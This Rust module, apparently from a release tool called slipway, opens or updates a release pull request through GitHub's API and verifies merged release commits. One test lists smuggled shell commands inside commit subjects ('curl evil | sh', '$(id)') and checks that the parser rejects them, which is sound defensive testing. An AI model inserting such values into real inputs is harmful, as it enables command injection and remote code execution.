//! The release pull request (`release.trigger: pr`): one branch, one pull request, opened or
//! updated on each push to the default branch, carrying the version bump of every manifest and
//! the changelog section. Its commit is made through the Git Data API (blob per file, a tree on
//! the base commit's tree, a commit, the branch ref) so that GitHub signs it
//! (<https://docs.github.com/en/rest/git/blobs>, <https://docs.github.com/en/rest/git/trees>,
//! <https://docs.github.com/en/rest/git/commits>, <https://docs.github.com/en/rest/git/refs>,
//! <https://docs.github.com/en/rest/pulls/pulls>). Merging it brings the release commit to
//! the default branch, where `release plan` recognises it ([`verify`]) and `release publish`
//! tags and publishes that version, without bumping again.
//!
//! The input is a list of [`Unit`]s (name, next version, changelog, notes), one per released
//! unit, so a plan of several units makes one pull request: the repository as a whole, or
//! under `release.units: per-unit` every unit that releases ([`units_of`]).
//!
//! Everything that can be refused is checked before the first write: every manifest is read
//! and bumped in memory, the default branch must still be at the checked-out commit, and an
//! existing release branch must hold only slipway's commit (a hand-edited release pull request
//! is not overwritten).

use std::path::{Path, PathBuf};

use http::Method;
use semver::Version;
use serde::Deserialize;
use serde_json::json;

use super::{changelog, manifests};
use crate::error::Hint;
use crate::github::client::{self, Client, encode};

/// The subject every release-branch commit starts with.
pub const SUBJECT_PREFIX: &str = "chore(release): ";

/// The release branch unless `--branch` names another.
pub const DEFAULT_BRANCH: &str = "slipway/release";

/// What a release pull request is made from.
#[derive(Debug, Clone)]
pub struct Input {
    /// The repository root (the checked-out default branch).
    pub root: PathBuf,
    /// The commit checked out, which the release commit goes on.
    pub head: String,
    /// The default branch, e.g. `main`.
    pub base: String,
    /// The release branch, e.g. `slipway/release`.
    pub branch: String,
    /// What goes out: one entry per released unit (one for a repository released as a whole).
    pub units: Vec<Unit>,
}

/// One unit of a release pull request: its next version, its changelog and its manifests.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unit {
    /// The unit's name; `None` for the repository released as a whole.
    pub name: Option<String>,
    /// The tag of the next version, e.g. `v1.3.0` or `web-v1.3.0`.
    pub tag: String,
    /// The version being released from (`0.0.0` for a first release).
    pub previous: String,
    /// The next version.
    pub next: Version,
    /// The changelog file, relative to the root.
    pub changelog: String,
    /// The changelog section of the release.
    pub notes: String,
    /// The unit's manifests beyond those found at the root (`release.extra-files`).
    pub extra_files: Vec<String>,
    /// The unit's own manifests (per-unit releases: its manifest, and the workspace manifest
    /// whose version it follows); `None`: the manifests at the root and `extra_files`.
    pub manifests: Option<Vec<String>>,
}

/// The manifests whose version `unit` bumps, relative to the root.
fn manifests_of(root: &Path, unit: &Unit) -> Result<Vec<String>, manifests::Error> {
    match &unit.manifests {
        Some(own) => Ok(own.clone()),
        None => manifests::find(root, &unit.extra_files),
    }
}

/// One [`Unit`] per unit of a per-unit plan that releases, in path order: its manifest (and
/// the Cargo workspace manifest it follows) bumped, its own changelog.
pub fn units_of(plan: &super::units::Plan) -> Vec<Unit> {
    plan.releases()
        .filter_map(|u| {
            let mut own = vec![u.unit.manifest.clone()];
            own.extend(u.unit.follows.clone());
            Some(Unit {
                name: Some(u.unit.name.clone()),
                tag: u.tag.clone()?,
                previous: u
                    .previous
                    .as_ref()
                    .map_or_else(|| u.unit.version.clone(), |t| t.version.to_string()),
                next: u.next.clone()?,
                changelog: u.unit.changelog.clone(),
                notes: u.notes.clone().unwrap_or_default(),
                extra_files: Vec::new(),
                manifests: Some(own),
            })
        })
        .collect()
}

/// The subject of the release commit (and the pull request's title) of `tags`:
/// `chore(release): v1.3.0`, or `chore(release): web-v1.2.0, api-v0.3.1` for several units.
///
/// ```
/// use slipway::release::pr::subject;
/// assert_eq!(subject(&["v1.3.0"]), "chore(release): v1.3.0");
/// assert_eq!(subject(&["web-v1.2.0", "api-v0.3.1"]), "chore(release): web-v1.2.0, api-v0.3.1");
/// ```
pub fn subject<S: AsRef<str>>(tags: &[S]) -> String {
    let tags: Vec<&str> = tags.iter().map(AsRef::as_ref).collect();
    format!("{SUBJECT_PREFIX}{}", tags.join(", "))
}

/// The tags a release commit's subject names, as [`subject`] writes it, also in the form a
/// squash merge gives it (` (#7)` after it); `None` for any other subject.
///
/// ```
/// use slipway::release::pr::subject_tags;
/// assert_eq!(subject_tags("chore(release): v1.3.0").unwrap(), ["v1.3.0"]);
/// assert_eq!(subject_tags("chore(release): v1.3.0 (#7)").unwrap(), ["v1.3.0"]);
/// assert_eq!(subject_tags("chore(release): a-v1.0.0, b-v2.0.0").unwrap(), ["a-v1.0.0", "b-v2.0.0"]);
/// assert_eq!(subject_tags("chore(release): @acme/web-v2.0.0").unwrap(), ["@acme/web-v2.0.0"]);
/// assert!(subject_tags("chore(release): bump everything").is_none());
/// assert!(subject_tags("feat: chore(release): v1.3.0").is_none());
/// ```
pub fn subject_tags(subject: &str) -> Option<Vec<String>> {
    let mut rest = subject.trim_end().strip_prefix(SUBJECT_PREFIX)?;
    if let Some(open) = rest.rfind(" (#")
        && let Some(number) = rest[open + 3..].strip_suffix(')')
        && !number.is_empty()
        && number.bytes().all(|b| b.is_ascii_digit())
    {
        rest = &rest[..open];
    }
    let tags: Vec<String> = rest.split(", ").map(str::to_owned).collect();
    let well_formed = |t: &String| {
        super::remote::split_tag(t).is_some()
            && t.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b".-_+/@".contains(&b))
    };
    tags.iter().all(well_formed).then_some(tags)
}

/// One file of the release commit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileChange {
    /// The path, relative to the root.
    pub path: String,
    /// The new contents.
    pub text: String,
}

/// What was done.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Outcome {
    /// The pull request number.
    pub number: u64,
    /// Opened by this run (`false`: updated).
    pub opened: bool,
    /// The release commit.
    pub commit: String,
    /// The files it changes.
    pub files: Vec<String>,
}

/// Why the release pull request could not be made.
#[derive(Debug, thiserror::Error)]
pub enum Error {
    /// A manifest could not be bumped.
    #[error(transparent)]
    Manifest(#[from] manifests::Error),
    /// A file could not be read.
    #[error("reading `{path}`")]
    Read {
        /// The file.
        path: String,
        /// The I/O error.
        #[source]
        source: std::io::Error,
    },
    /// The default branch moved after the checkout.
    #[error("`{base}` is at `{remote}` on GitHub, not at the checked-out `{local}`")]
    BaseMoved {
        /// The branch.
        base: String,
        /// Where GitHub has it.
        remote: String,
        /// The checkout.
        local: String,
    },
    /// The release branch holds a commit slipway did not make.
    #[error("the release branch `{branch}` has a commit slipway did not make (`{subject}`)")]
    HandEdited {
        /// The branch.
        branch: String,
        /// The subject of its head commit.
        subject: String,
    },
    /// The changelog has the next version's section, but its tag is missing: a merged release
    /// pull request was not published.
    #[error("`{changelog}` has a section for `{tag}` already, but there is no tag `{tag}`")]
    Unpublished {
        /// The tag of the next version.
        tag: String,
        /// The changelog file.
        changelog: String,
    },
    /// Deciding the next version failed.
    #[error(transparent)]
    Plan(Box<super::Error>),
    /// An API call failed.
    #[error("{step}")]
    Api {
        /// What was being done.
        step: &'static str,
        /// The API error.
        #[source]
        source: Box<client::Error>,
    },
}

impl Hint for Error {
    fn hint(&self) -> Option<String> {
        match self {
            Self::Manifest(e) => e.hint(),
            Self::BaseMoved { .. } => {
                Some("a newer push runs the release pull request again; nothing was changed".into())
            }
            Self::HandEdited { branch, .. } => Some(format!(
                "merge or close the release pull request, or delete the branch `{branch}`; nothing was pushed, and the next run makes the pull request afresh"
            )),
            Self::Unpublished { .. } => Some(
                "a merged release pull request was not published: re-run the release workflow of its merge (or `slipway release publish` at that commit); nothing was pushed"
                    .into(),
            ),
            Self::Plan(e) => e.hint(),
            Self::Api { source, .. } => source.hint(),
            Self::Read { .. } => None,
        }
    }
}

impl From<super::Error> for Error {
    fn from(e: super::Error) -> Self {
        Self::Plan(Box::new(e))
    }
}

/// Reads `rel` under `root` without following a link; `None` when it does not exist.
fn read_in(root: &Path, rel: &str) -> Result<Option<String>, Error> {
    let error = |source| Error::Read {
        path: rel.to_owned(),
        source,
    };
    crate::fsutil::Root::open(root)
        .and_then(|r| r.read_optional(Path::new(rel)))
        .map_err(error)
}

/// The files of the release commit: each unit's changelog with the new section on top, and
/// every manifest with its version bumped (files already at the new version are left out).
/// Files are read without following links: a changelog that is a link to a file outside the
/// repository is refused, never sent.
pub fn changes(input: &Input) -> Result<Vec<FileChange>, Error> {
    let mut out: Vec<FileChange> = Vec::new();
    // A file two units share (a workspace's `Cargo.lock`) carries every unit's change.
    let current = |out: &Vec<FileChange>, rel: &str| -> Result<Option<String>, Error> {
        match out.iter().find(|f| f.path == rel) {
            Some(f) => Ok(Some(f.text.clone())),
            None => read_in(&input.root, rel),
        }
    };
    let put = |out: &mut Vec<FileChange>, path: String, text: String| match out
        .iter_mut()
        .find(|f| f.path == path)
    {
        Some(f) => f.text = text,
        None => out.push(FileChange { path, text }),
    };
    for unit in &input.units {
        let existing = current(&out, &unit.changelog)?;
        let text = changelog::prepend(existing.as_deref(), &unit.notes);
        put(&mut out, unit.changelog.clone(), text);
        for rel in manifests_of(&input.root, unit)? {
            let Some(text) = current(&out, &rel)? else {
                continue;
            };
            let bumped = manifests::bump(&rel, &text, &unit.previous, &unit.next)?;
            if bumped.text != text {
                put(&mut out, rel, bumped.text);
            }
        }
    }
    Ok(out)
}

/// A merged release commit, checked: what the push of it releases.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Merged {
    /// The tag, e.g. `v1.3.0`.
    pub tag: String,
    /// The version.
    pub version: Version,
    /// Its changelog section, as the merged changelog holds it.
    pub notes: String,
}

/// Checks the release commit at the head of the default branch, whose subject is `subject`,
/// against `expected`, the unit the commits since the last tag call for (`None`: they call
/// for no release). `Ok(None)`: `subject` is not a release commit's. `Err`: it says it is one,
/// but is not released, and why.
///
/// The subject alone proves nothing (anyone can write `chore(release): v9.9.9` in a pull
/// request), so a release commit is one whose subject names exactly the version the commits
/// call for, whose manifests all hold that version already, and whose changelog has its
/// section: what merging slipway's release pull request gives, and nothing a commit message
/// can choose.
pub fn verify(
    root: &Path,
    subject: &str,
    expected: Option<&Unit>,
) -> Result<Option<Merged>, String> {
    let expected = expected.map(std::slice::from_ref).unwrap_or_default();
    Ok(verify_units(root, subject, expected)?.and_then(|mut m| m.pop()))
}

/// [`verify`] for a release of several units: the subject names exactly the tags of
/// `expected` (the units the commits call for, in plan order), every unit's manifests hold its
/// next version and every unit's changelog has its section. `Ok(Some(_))` has one [`Merged`]
/// per unit, in the order of `expected`.
pub fn verify_units(
    root: &Path,
    subject: &str,
    expected: &[Unit],
) -> Result<Option<Vec<Merged>>, String> {
    let Some(tags) = subject_tags(subject) else {
        return Ok(None);
    };
    if expected.is_empty() {
        return Err(format!(
            "`{subject}` says it releases {}, but the commits call for no release",
            tags.join(", ")
        ));
    }
    let wanted: Vec<&str> = expected.iter().map(|u| u.tag.as_str()).collect();
    if tags != wanted {
        let wanted: Vec<String> = wanted.iter().map(|t| format!("`{t}`")).collect();
        return Err(format!(
            "`{subject}` says it releases {}, but the commits call for {}",
            tags.join(", "),
            wanted.join(", ")
        ));
    }
    let read = |rel: &str| read_in(root, rel).map_err(|e| format!("{e}: {}", error_chain(&e)));
    let mut out = Vec::with_capacity(expected.len());
    for unit in expected {
        let version = unit.next.to_string();
        let files = manifests_of(root, unit).map_err(|e| e.to_string())?;
        for rel in files {
            let Some(text) = read(&rel)? else { continue };
            let bumped = manifests::bump(&rel, &text, &unit.previous, &unit.next)
                .map_err(|e| e.to_string())?;
            if bumped.text != text {
                let held = bumped
                    .previous
                    .unwrap_or_else(|| "another version".to_owned());
                return Err(format!(
                    "`{subject}` says it releases `{}`, but `{rel}` holds `{held}`, not `{version}`",
                    unit.tag
                ));
            }
        }
        let notes = read(&unit.changelog)?
            .and_then(|text| changelog::section(&text, &version))
            .ok_or_else(|| {
                format!(
                    "`{subject}` says it releases `{}`, but `{}` has no section `{version}`",
                    unit.tag, unit.changelog
                )
            })?;
        out.push(Merged {
            tag: unit.tag.clone(),
            version: unit.next.clone(),
            notes,
        });
    }
    Ok(Some(out))
}

fn error_chain(e: &dyn std::error::Error) -> String {
    e.source().map(ToString::to_string).unwrap_or_default()
}

#[derive(Debug, Deserialize)]
struct Sha {
    sha: String,
}

#[derive(Debug, Deserialize)]
struct RefAnswer {
    object: Sha,
}

#[derive(Debug, Deserialize)]
struct CommitAnswer {
    sha: String,
    tree: Sha,
    message: String,
    #[serde(default)]
    parents: Vec<Sha>,
}

#[derive(Debug, Deserialize)]
struct PullAnswer {
    number: u64,
}

/// Opens or updates the release pull request for `input` through `client`.
pub async fn open_or_update(client: &Client, input: &Input) -> Result<Outcome, Error> {
    let files = changes(input)?;
    let repo = client
        .repo()
        .map_err(|e| api("reading the repository", e))?;
    let base_path = format!("/repos/{}/{}", repo.owner, repo.name);
    let git = |rest: &str| format!("{base_path}/git/{rest}");
    let heads = |name: &str| {
        let segments: Vec<String> = name.split('/').map(encode).collect();
        format!("heads/{}", segments.join("/"))
    };

    // Checks first: nothing is written when one fails.
    let step = "reading the default branch";
    let base: RefAnswer = client
        .get_json(&git(&format!("ref/{}", heads(&input.base))))
        .await
        .map_err(|e| api(step, e))?;
    if !base.object.sha.eq_ignore_ascii_case(&input.head) {
        return Err(Error::BaseMoved {
            base: input.base.clone(),
            remote: base.object.sha,
            local: input.head.clone(),
        });
    }
    let base_commit: CommitAnswer = client
        .get_json(&git(&format!("commits/{}", base.object.sha)))
        .await
        .map_err(|e| api(step, e))?;
    let step = "reading the release branch";
    let existing: Option<RefAnswer> = match client
        .get_json(&git(&format!("ref/{}", heads(&input.branch))))
        .await
    {
        Ok(r) => Some(r),
        Err(client::Error::NotFound { .. }) => None,
        Err(e) => return Err(api(step, e)),
    };
    if let Some(r) = &existing {
        let head: CommitAnswer = client
            .get_json(&git(&format!("commits/{}", r.object.sha)))
            .await
            .map_err(|e| api(step, e))?;
        // slipway's release branch is one commit of its own on a commit of the base.
        let ours = head.message.starts_with(SUBJECT_PREFIX) && head.parents.len() == 1;
        if !ours {
            return Err(Error::HandEdited {
                branch: input.branch.clone(),
                subject: head.message.lines().next().unwrap_or("").to_owned(),
            });
        }
    }

    // The commit: blobs, a tree on the base's tree, the commit on the base.
    let step = "creating the release commit";
    let mut entries = Vec::new();
    for f in &files {
        let blob: Sha = client
            .send(
                Method::POST,
                &git("blobs"),
                Some(&json!({ "content": f.text, "encoding": "utf-8" })),
            )
            .await
            .and_then(|r| r.json(&git("blobs")))
            .map_err(|e| api(step, e))?;
        entries.push(json!({ "path": f.path, "mode": "100644", "type": "blob", "sha": blob.sha }));
    }
    let tree: Sha = client
        .send(
            Method::POST,
            &git("trees"),
            Some(&json!({ "base_tree": base_commit.tree.sha, "tree": entries })),
        )
        .await
        .and_then(|r| r.json(&git("trees")))
        .map_err(|e| api(step, e))?;
    let tags: Vec<&str> = input.units.iter().map(|u| u.tag.as_str()).collect();
    let message = subject(&tags);
    let commit: Sha = client
        .send(
            Method::POST,
            &git("commits"),
            Some(&json!({ "message": message, "tree": tree.sha, "parents": [base_commit.sha] })),
        )
        .await
        .and_then(|r| r.json(&git("commits")))
        .map_err(|e| api(step, e))?;
    let step = "moving the release branch";
    match existing {
        Some(_) => client
            .send(
                Method::PATCH,
                &git(&format!("refs/{}", heads(&input.branch))),
                Some(&json!({ "sha": commit.sha, "force": true })),
            )
            .await
            .map(drop),
        None => client
            .send(
                Method::POST,
                &git("refs"),
                Some(&json!({ "ref": format!("refs/heads/{}", input.branch), "sha": commit.sha })),
            )
            .await
            .map(drop),
    }
    .map_err(|e| api(step, e))?;

    // The pull request: one, found by its head branch.
    let step = "opening the release pull request";
    let title = message.clone();
    let body = body(input, &files);
    let list = format!(
        "{base_path}/pulls?state=open&head={}&base={}",
        encode(&format!("{}:{}", repo.owner, input.branch)),
        encode(&input.base)
    );
    let open: Vec<PullAnswer> = client.get_json(&list).await.map_err(|e| api(step, e))?;
    let (number, opened) = match open.first() {
        Some(p) => {
            let path = format!("{base_path}/pulls/{}", p.number);
            client
                .send(
                    Method::PATCH,
                    &path,
                    Some(&json!({ "title": title, "body": body })),
                )
                .await
                .map_err(|e| api(step, e))?;
            (p.number, false)
        }
        None => {
            let path = format!("{base_path}/pulls");
            let p: PullAnswer = client
                .send(
                    Method::POST,
                    &path,
                    Some(&json!({ "title": title, "body": body, "head": input.branch, "base": input.base })),
                )
                .await
                .and_then(|r| r.json(&path))
                .map_err(|e| api(step, e))?;
            (p.number, true)
        }
    };
    Ok(Outcome {
        number,
        opened,
        commit: commit.sha,
        files: files.into_iter().map(|f| f.path).collect(),
    })
}

/// The pull request's description: what goes out, the files, each unit's changelog section.
fn body(input: &Input, files: &[FileChange]) -> String {
    use std::fmt::Write as _;
    let tags: Vec<String> = input.units.iter().map(|u| format!("`{}`", u.tag)).collect();
    let mut out = format!(
        "Merging this pull request releases {}: the push of its commit to `{}` tags and publishes {}.\n\n",
        tags.join(", "),
        input.base,
        if tags.len() == 1 { "it" } else { "them" }
    );
    out.push_str("| unit | from | to |\n| --- | --- | --- |\n");
    for u in &input.units {
        let _ = writeln!(
            out,
            "| {} | {} | {} |",
            u.name.as_deref().unwrap_or("(repository)"),
            u.previous,
            u.next
        );
    }
    let _ = writeln!(
        out,
        "\nFiles: {}\n",
        files
            .iter()
            .map(|f| format!("`{}`", f.path))
            .collect::<Vec<_>>()
            .join(", ")
    );
    out.push_str(
        "This branch is rewritten on each push; a commit added to it by hand stops the updates.\n",
    );
    for u in &input.units {
        let _ = write!(out, "\n{}", u.notes.trim_end());
        out.push('\n');
    }
    out
}

fn api(step: &'static str, source: client::Error) -> Error {
    Error::Api {
        step,
        source: Box::new(source),
    }
}

/// The next release of the repository as one unit, from `plan`; `None` when nothing is
/// releasable. A multi-unit plan gives one [`Unit`] per unit that has a next version.
pub fn unit_of(settings: &super::Settings, plan: &super::Plan) -> Option<Unit> {
    Some(Unit {
        name: None,
        tag: plan.tag.clone()?,
        previous: plan
            .previous
            .as_ref()
            .map_or_else(|| "0.0.0".to_owned(), |t| t.version.to_string()),
        next: plan.next.clone()?,
        changelog: settings.release.changelog.clone(),
        notes: plan.changelog.clone().unwrap_or_default(),
        extra_files: settings
            .release
            .extra_files
            .iter()
            .map(|l| l.value.clone())
            .collect(),
        manifests: None,
    })
}

/// The subject of the release commit a push of `HEAD` brings: `HEAD`'s own (a squash or
/// rebase merge), or its second parent's when `HEAD` is a pull request's merge commit.
pub fn head_release_subject(repo: &super::git::Repo) -> Result<String, super::git::Error> {
    let head = repo.head_subject()?;
    if super::git::merge_pr_number(&head).is_some()
        && let Some(merged) = repo.subject("HEAD^2")?
    {
        return Ok(merged);
    }
    Ok(head)
}

/// What `slipway release pr` is asked to do.
#[derive(Debug, Clone)]
pub struct Settings {
    /// The decision: root, `release` config, tag prefix (no forced version: the merged commit
    /// must name the version the commits call for).
    pub release: super::Settings,
    /// The default branch, e.g. `main`.
    pub base: String,
    /// The release branch, e.g. `slipway/release`.
    pub branch: String,
    /// The config file as errors name it.
    pub config_file: String,
}

/// What `slipway release pr` did, or would do on a dry run.
#[derive(Debug, Clone)]
pub struct Report {
    /// The decision the units come from.
    pub plan: super::Plan,
    /// What the pull request releases (empty when nothing is releasable).
    pub units: Vec<Unit>,
    /// The files its commit changes.
    pub files: Vec<String>,
    /// The tag of the merged release commit at `HEAD`, which the release workflow publishes
    /// (no pull request is made then).
    pub merged: Option<String>,
    /// A release pull request left open while nothing is releasable.
    pub left_open: Option<u64>,
    /// The pull request opened or updated (`None` on a dry run and when there is nothing).
    pub pull_request: Option<Outcome>,
}

/// Runs `slipway release pr`: decides the next version from the commits (the plan of
/// `release plan`), and unless `dry_run` opens or updates the release pull request through
/// `client` (built from the environment on first use, so a dry run needs no token).
///
/// - `HEAD` is the merged release commit (checked by [`verify`]): nothing to do, the release
///   workflow publishes it;
/// - nothing releasable: nothing is written; an open release pull request is left as it is
///   (merging it releases nothing: its version is not what the commits call for) and named;
/// - the changelog has the next version's section already while its tag is missing: a merged
///   release was not published, and a second pull request for it is refused.
pub async fn run(
    settings: &Settings,
    dry_run: bool,
    client: impl FnOnce() -> Result<Client, client::Error>,
) -> Result<Report, Error> {
    let root = &settings.release.root;
    let repo = super::git::Repo::open(root).map_err(super::Error::from)?;
    let (plan, units) = if settings.release.release.units == crate::config::ReleaseUnits::PerUnit {
        let release = &settings.release.release;
        let found = super::units::discover(root, release).map_err(super::Error::from)?;
        let options = super::units::Options {
            release,
            config_file: settings.config_file.clone(),
            rev: "HEAD".to_owned(),
            done_at: None,
        };
        let decided = super::units::plan(&repo, &found, &options).map_err(super::Error::from)?;
        let units = units_of(&decided);
        let plan = super::Plan {
            previous: None,
            next: None,
            tag: None,
            bump: super::bump::Bump::None,
            commits: 0,
            skipped: 0,
            changes: Vec::new(),
            reason: units
                .is_empty()
                .then(|| "no unit has a commit that releases it".to_owned()),
            ignored_tags: decided.ignored_tags,
            changelog: None,
        };
        (plan, units)
    } else {
        let plan = super::plan(&settings.release, &repo)?;
        let units: Vec<Unit> = unit_of(&settings.release, &plan).into_iter().collect();
        (plan, units)
    };
    let mut report = Report {
        plan,
        units: Vec::new(),
        files: Vec::new(),
        merged: None,
        left_open: None,
        pull_request: None,
    };
    let subject = head_release_subject(&repo).map_err(super::Error::from)?;
    if let Ok(Some(merged)) = verify_units(root, &subject, &units) {
        let tags: Vec<String> = merged.into_iter().map(|m| m.tag).collect();
        report.merged = Some(tags.join(", "));
        return Ok(report);
    }
    if units.is_empty() {
        if !dry_run {
            let client = client().map_err(|e| api("reading the release pull request", e))?;
            report.left_open = open_pull(&client, &settings.base, &settings.branch).await?;
        }
        return Ok(report);
    }
    for unit in &units {
        if let Some(existing) = read_in(root, &unit.changelog)?
            && changelog::section(&existing, &unit.next.to_string()).is_some()
        {
            return Err(Error::Unpublished {
                tag: unit.tag.clone(),
                changelog: unit.changelog.clone(),
            });
        }
    }
    let input = Input {
        root: root.clone(),
        head: repo.head().map_err(super::Error::from)?,
        base: settings.base.clone(),
        branch: settings.branch.clone(),
        units,
    };
    report.files = changes(&input)?.into_iter().map(|f| f.path).collect();
    report.units = input.units.clone();
    if dry_run {
        return Ok(report);
    }
    let client = client().map_err(|e| api("reading the repository", e))?;
    let outcome = open_or_update(&client, &input).await?;
    report.files = outcome.files.clone();
    report.pull_request = Some(outcome);
    Ok(report)
}

/// The open release pull request from `branch` into `base`, when there is one.
async fn open_pull(client: &Client, base: &str, branch: &str) -> Result<Option<u64>, Error> {
    let step = "reading the release pull request";
    let repo = client.repo().map_err(|e| api(step, e))?;
    let list = format!(
        "/repos/{}/{}/pulls?state=open&head={}&base={}",
        repo.owner,
        repo.name,
        encode(&format!("{}:{branch}", repo.owner)),
        encode(base)
    );
    let open: Vec<PullAnswer> = client.get_json(&list).await.map_err(|e| api(step, e))?;
    Ok(open.first().map(|p| p.number))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn unit(tag: &str, next: &str) -> Unit {
        Unit {
            name: None,
            tag: tag.to_owned(),
            previous: "1.2.3".to_owned(),
            next: Version::parse(next).expect("version"),
            changelog: "CHANGELOG.md".to_owned(),
            notes: format!("## {next}\n\n- search\n"),
            extra_files: Vec::new(),
            manifests: None,
        }
    }

    /// A checkout holding `version` in its manifests and a changelog with `section`.
    fn checkout(version: &str, section: Option<&str>) -> tempfile::TempDir {
        let dir = tempfile::tempdir().expect("tempdir");
        let write =
            |rel: &str, text: String| std::fs::write(dir.path().join(rel), text).expect("write");
        write(
            "Cargo.toml",
            format!("[package]\nname = \"shop\"\nversion = \"{version}\"\n"),
        );
        write("VERSION", format!("{version}\n"));
        let mut changelog = "# Changelog\n\n".to_owned();
        if let Some(v) = section {
            changelog.push_str(&format!("## {v} (2025-01-02)\n\n- search\n\n"));
        }
        changelog.push_str("## 1.2.3\n\n- old\n");
        write("CHANGELOG.md", changelog);
        dir
    }

    #[test]
    fn a_merged_release_commit_is_released_with_its_changelog_section() {
        let dir = checkout("1.3.0", Some("1.3.0"));
        let expected = unit("v1.3.0", "1.3.0");
        for subject in ["chore(release): v1.3.0", "chore(release): v1.3.0 (#7)"] {
            let merged = verify(dir.path(), subject, Some(&expected))
                .expect("accepted")
                .expect("a release commit");
            assert_eq!(merged.tag, "v1.3.0");
            assert_eq!(merged.version, Version::new(1, 3, 0));
            assert_eq!(merged.notes, "## 1.3.0 (2025-01-02)\n\n- search\n");
        }
        assert_eq!(
            verify(dir.path(), "feat: search", Some(&expected)),
            Ok(None)
        );
        assert_eq!(
            verify(dir.path(), "chore(release): prepare 1.3", Some(&expected)),
            Ok(None)
        );
    }

    #[test]
    fn a_forged_release_subject_releases_nothing_and_says_why() {
        // A contributor's `chore(release): v9.9.9` with manifests that do not hold it.
        let dir = checkout("1.2.3", None);
        let expected = unit("v1.3.0", "1.3.0");
        assert_eq!(
            verify(dir.path(), "chore(release): v9.9.9", Some(&expected)),
            Err("`chore(release): v9.9.9` says it releases v9.9.9, but the commits call for `v1.3.0`".to_owned())
        );
        assert_eq!(
            verify(dir.path(), "chore(release): v9.9.9", None),
            Err("`chore(release): v9.9.9` says it releases v9.9.9, but the commits call for no release".to_owned())
        );
        // Even with the manifests bumped to it by hand: the commits decide the version.
        let bumped = checkout("9.9.9", Some("9.9.9"));
        assert!(
            verify(bumped.path(), "chore(release): v9.9.9", Some(&expected))
                .expect_err("forged")
                .contains("call for `v1.3.0`")
        );
        // The right subject on manifests that were never bumped.
        assert_eq!(
            verify(dir.path(), "chore(release): v1.3.0", Some(&expected)),
            Err("`chore(release): v1.3.0` says it releases `v1.3.0`, but `Cargo.toml` holds `1.2.3`, not `1.3.0`".to_owned())
        );
        // Manifests bumped, the changelog section missing.
        let no_section = checkout("1.3.0", None);
        assert_eq!(
            verify(no_section.path(), "chore(release): v1.3.0", Some(&expected)),
            Err("`chore(release): v1.3.0` says it releases `v1.3.0`, but `CHANGELOG.md` has no section `1.3.0`".to_owned())
        );
        // Several tags where one unit is released.
        assert!(
            verify(
                dir.path(),
                "chore(release): v1.3.0, x-v9.9.9",
                Some(&expected)
            )
            .expect_err("forged")
            .contains("v1.3.0, x-v9.9.9")
        );
    }

    #[test]
    fn release_subjects_with_anything_but_tags_are_not_release_subjects() {
        for subject in [
            "chore(release): v1.3.0; curl evil | sh",
            "chore(release): v1.3.0 $(id)",
            "chore(release): ",
            "chore(release): v1.3.0,v1.4.0",
            "chore(release): v1.3.0 (#)",
            "Chore(release): v1.3.0",
        ] {
            assert_eq!(subject_tags(subject), None, "{subject}");
        }
    }

    #[test]
    fn several_units_make_one_commit_with_every_changelog_and_every_tag() {
        let dir = checkout("1.2.3", None);
        std::fs::create_dir(dir.path().join("web")).expect("mkdir");
        let mut web = unit("web-v2.0.0", "2.0.0");
        web.name = Some("web".to_owned());
        web.changelog = "web/CHANGELOG.md".to_owned();
        let input = Input {
            root: dir.path().to_path_buf(),
            head: "0".repeat(40),
            base: "main".to_owned(),
            branch: DEFAULT_BRANCH.to_owned(),
            units: vec![unit("v1.3.0", "1.3.0"), web],
        };
        let files = changes(&input).expect("changes");
        let paths: Vec<&str> = files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(
            paths,
            ["CHANGELOG.md", "Cargo.toml", "VERSION", "web/CHANGELOG.md"]
        );
        assert_eq!(files[3].text, "# Changelog\n\n## 2.0.0\n\n- search\n");
        let tags: Vec<&str> = input.units.iter().map(|u| u.tag.as_str()).collect();
        assert_eq!(subject(&tags), "chore(release): v1.3.0, web-v2.0.0");
        assert_eq!(
            subject_tags(&subject(&tags)).expect("tags"),
            ["v1.3.0", "web-v2.0.0"]
        );
        let text = body(&input, &files);
        assert!(text.contains("| web | 1.2.3 | 2.0.0 |"), "{text}");
        assert!(text.contains("releases `v1.3.0`, `web-v2.0.0`"), "{text}");
    }

    #[test]
    fn a_merged_per_unit_commit_needs_every_unit_bumped_and_every_section() {
        let dir = tempfile::tempdir().expect("tempdir");
        let write = |rel: &str, text: &str| {
            let path = dir.path().join(rel);
            std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
            std::fs::write(path, text).expect("write");
        };
        write(
            "a/package.json",
            "{ \"name\": \"a\", \"version\": \"1.1.0\" }\n",
        );
        write("a/CHANGELOG.md", "# Changelog\n\n## 1.1.0\n\n- a\n");
        write(
            "b/package.json",
            "{ \"name\": \"b\", \"version\": \"0.2.0\" }\n",
        );
        let unit = |name: &str, previous: &str, next: &str| Unit {
            name: Some(name.to_owned()),
            tag: format!("{name}-v{next}"),
            previous: previous.to_owned(),
            next: Version::parse(next).expect("version"),
            changelog: format!("{name}/CHANGELOG.md"),
            notes: String::new(),
            extra_files: Vec::new(),
            manifests: Some(vec![format!("{name}/package.json")]),
        };
        let expected = [unit("a", "1.0.0", "1.1.0"), unit("b", "0.1.0", "0.2.0")];
        let subject = "chore(release): a-v1.1.0, b-v0.2.0 (#3)";
        // `b` is bumped but its changelog has no section.
        assert_eq!(
            verify_units(dir.path(), subject, &expected),
            Err(format!(
                "`{subject}` says it releases `b-v0.2.0`, but `b/CHANGELOG.md` has no section `0.2.0`"
            ))
        );
        write("b/CHANGELOG.md", "# Changelog\n\n## 0.2.0\n\n- b\n");
        let merged = verify_units(dir.path(), subject, &expected)
            .expect("accepted")
            .expect("a release commit");
        let tags: Vec<&str> = merged.iter().map(|m| m.tag.as_str()).collect();
        assert_eq!(tags, ["a-v1.1.0", "b-v0.2.0"]);
        assert_eq!(merged[1].notes, "## 0.2.0\n\n- b\n");
        // One tag left out, or the order changed: not what the commits call for.
        for forged in [
            "chore(release): a-v1.1.0",
            "chore(release): b-v0.2.0, a-v1.1.0",
        ] {
            assert!(
                verify_units(dir.path(), forged, &expected)
                    .expect_err("forged")
                    .contains("the commits call for `a-v1.1.0`, `b-v0.2.0`"),
                "{forged}"
            );
        }
    }
}
